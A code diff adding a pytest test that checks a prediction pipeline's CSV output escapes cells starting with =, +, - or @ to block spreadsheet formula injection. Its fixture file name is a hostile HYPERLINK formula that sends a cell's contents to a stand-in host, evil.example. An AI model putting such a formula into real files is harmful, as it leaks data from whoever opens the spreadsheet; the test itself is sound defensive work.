@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -163,6 +164,26 @@ def test_predict_skips_a_row_with_a_5_mb_question_and_answers_the_others(project
     rejected = read_csv(out.with_name("predictions.rejected.csv"))
     assert [(r["file"], r["reason"]) for r in rejected] == [(got[1]["file"], got[1]["error"])]
     assert str(out.with_name("predictions.rejected.csv")) in proc.stdout
+
+
+def test_predictions_csv_cells_never_start_a_formula(tmp_path):
+    """Issue 46 #16: predictions.csv wrote a file name like =HYPERLINK(…) raw (spreadsheet formula injection)."""
+    from pipeline.csvcells import FORMULA_START
+    from pipeline.predict import Prediction, write_predictions
+
+    name = '=HYPERLINK("evil.example?c="&A1,"click").png'
+    preds = [Prediction(name, "+what is it?", "@cat", 0.9, "round 1: adapter", mean_logprob=-0.105361),
+             Prediction("-x.png", "q", None, None, "round 1: adapter", error="cannot decode: =bad")]
+    files = write_predictions(preds, tmp_path / "predictions.csv")
+    for path in (files.csv, files.rejected):
+        with open(path, newline="", encoding="utf-8") as f:
+            cells = [c for row in csv.reader(f) for c in row]
+        assert not [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-?[\d.]+", c)], path
+    got = read_csv(files.csv)
+    assert got[0]["file"] == "'" + name and got[0]["answer"] == "'@cat" and got[0]["question"] == "'+what is it?"
+    assert got[0]["mean_logprob"] == "-0.105361"  # a number stays a number
+    assert read_csv(files.rejected) == [{"file": "'-x.png", "reason": "cannot decode: =bad"}]
+    assert json.loads(files.jsonl.read_text().splitlines()[0])["file"] == name  # JSON is no spreadsheet: as is
 
 
 # Plain transformers in a fresh interpreter: tamis's packages cannot be imported (the editable install's path
